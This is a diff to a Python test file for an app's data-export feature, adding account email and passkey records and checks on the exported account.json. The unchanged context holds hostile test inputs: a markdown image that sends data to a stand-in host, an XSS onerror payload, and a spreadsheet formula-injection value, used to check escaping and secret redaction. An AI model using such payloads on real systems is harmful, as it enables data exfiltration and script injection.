@@ -17,6 +17,8 @@ from tests.whole.house import ALUMINIUM, STEEL, SYNTHESIS, House, answer, cut, s
 
 HOSTILE = "![x](https://evil.test/?d=S) <img src=x onerror=alert(1)>\n```\nif a < b:\n```\n"
 _ROWS = """
+from allauth.account.models import EmailAddress
+from allauth.mfa.models import Authenticator
 from council.actions import councils
 from council.core.plan import Council
 from council.models import Call, Key, Person
@@ -26,6 +28,8 @@ spec = Council.model_validate({"name": "Con", "seats": [{"model": "fake/m1"}],
 row = councils.save(person=person, council=spec)
 councils.save(person=person, council=spec.model_copy(update={"description": "Newer."}), row=row)
 councils.delete(row=councils.duplicate(person=person, council=spec))
+EmailAddress.objects.create(user=person, email="ada@example.org", verified=True, primary=True)
+Authenticator.objects.create(user=person, type="webauthn", data={"name": "Laptop"})
 Key.objects.create(person=person, provider="openai", secret="SENTINEL-SECRET", last4="1234")
 Call.objects.create(person=person, council_name="=HYPERLINK(1)", seat="A", attempt=9, model="m")
 """
@@ -103,6 +107,9 @@ def test_every_document_of_the_export_is_what_it_says(full: House) -> None:
     keys = json.loads(archive.read("keys.json"))["keys"]
     assert [(k["provider"], k["last4"]) for k in keys] == [("openai", "1234")]
     assert not any(b"SENTINEL-SECRET" in archive.read(n) for n in archive.namelist())
+    account = json.loads(archive.read("account.json"))
+    assert account["addresses"][0]["email"] == "ada@example.org"
+    assert account["passkeys"][0]["name"] == "Laptop"
     calls = list(csv.DictReader(io.StringIO(archive.read("spend.csv").decode())))
     assert len(calls) == full.rows("SELECT count(*) AS n FROM council_call")[0]["n"]
     assert "'=HYPERLINK(1)" in {call["council"] for call in calls}
